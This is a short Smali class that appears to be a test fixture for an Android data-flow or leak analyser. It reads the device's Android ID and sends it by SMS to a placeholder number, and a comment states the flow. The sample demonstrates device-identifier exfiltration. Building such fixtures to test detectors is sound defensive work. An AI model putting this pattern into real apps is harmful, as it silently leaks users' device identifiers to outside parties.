.class public final Lorg/appxray/test/flows/DestFlow;
.super Ljava/lang/Object;

# The Android ID goes by SmsUtil.send to the number this method names.

.method public static run(Landroid/content/ContentResolver;)V
    .registers 3
    const-string v0, "android_id"
    invoke-static {p0, v0}, Landroid/provider/Settings$Secure;->getString(Landroid/content/ContentResolver;Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    const-string v1, "+15550133"
    invoke-static {v1, v0}, Lorg/appxray/test/flows/SmsUtil;->send(Ljava/lang/String;Ljava/lang/String;)V
    return-void
.end method
